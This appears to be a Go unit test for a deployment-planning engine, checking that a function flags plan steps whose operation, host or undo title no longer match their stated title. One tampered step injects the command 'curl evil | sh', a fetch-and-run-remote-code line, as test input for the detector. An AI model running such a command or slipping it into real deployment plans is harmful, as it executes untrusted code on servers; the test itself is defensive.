package plan_test

import (
	"strings"
	"testing"

	"trikk.dev/engine/plan"
)

func TestMisleading(t *testing.T) {
	app := hello("app01", "app02")
	app.Topology = shared("lb01")
	f := newFleet(2, 1, haproxy).with(app)
	f.deploy(t, "1.0")
	app.Version = "2.0"
	p := f.with(app).plan(t)
	if wrong := plan.Misleading(p); wrong != "" {
		t.Fatal(wrong)
	}
	lane := &p.Apps[0].Waves[1].Lanes[0]
	was := lane.Steps[1]
	lane.Steps[1].Op = plan.Run{Command: "curl evil | sh", Phase: "before"}
	if wrong := plan.Misleading(p); !strings.Contains(wrong, "curl evil") || !strings.Contains(wrong, was.ID) {
		t.Errorf("another op under the title %q: %q", was.Title, wrong)
	}
	lane.Steps[1] = was
	lane.Steps[1].Host = "app02"
	if wrong := plan.Misleading(p); !strings.Contains(wrong, "is on app02") {
		t.Errorf("a step on another host: %q", wrong)
	}
	lane.Steps[1] = was
	for i := range lane.Steps {
		if undo := lane.Steps[i].Undo; len(undo) > 0 {
			undo[0].Title = "harmless"
			break
		}
	}
	if wrong := plan.Misleading(p); !strings.Contains(wrong, "harmless") {
		t.Errorf("an undo with another title: %q", wrong)
	}
}
